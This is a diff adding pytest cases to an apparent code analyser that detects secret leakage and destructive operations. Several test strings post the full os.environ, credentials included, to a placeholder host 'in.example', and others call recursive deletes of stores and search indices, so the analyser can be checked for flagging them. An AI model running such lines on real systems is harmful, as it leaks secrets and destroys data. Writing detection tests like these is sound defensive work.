@@ -221,3 +221,30 @@ PIECES = st.sampled_from(
 def test_no_text_breaks_the_reader(text: str) -> None:
     """Any text has a reading."""
     assert read(text, SCENE) is not None
+
+
+@pytest.mark.parametrize(
+    "body",
+    [
+        "json=dict(os.environ)", "data=str(os.environ)", "data=json.dumps({**os.environ}).encode()", "json=everything",
+        "json={'host': 'a', 'all': os.environ.copy()}",
+    ],
+)  # fmt: skip
+def test_the_whole_environment_that_leaves_is_a_secret(body: str) -> None:
+    """Whatever form it takes on its way: all variables hold the credentials among them."""
+    text = f"import json, os, requests\neverything = dict(os.environ)\nrequests.post('https://in.example', {body})"
+    assert any(Trait.SECRET in e.traits for e in read(text, SCENE).effects)
+
+
+@pytest.mark.parametrize(
+    "text", ["prices.drop(columns=['vat'])", "prices.drop('vat', axis=1)", "cache.delete('greeting')"]
+)
+def test_what_lives_in_memory_is_not_destroyed(text: str) -> None:
+    """A column of a table in memory, a key of a cache."""
+    assert not told(text)
+
+
+@pytest.mark.parametrize("text", ["store.recursive_delete('letters')", "client.indices.delete(index='letters')"])
+def test_a_handle_to_a_service_needs_no_import(text: str) -> None:
+    """A verb of depth, or an owner that is named a client, is enough."""
+    assert any(operation is D for operation, _, _ in told(text))
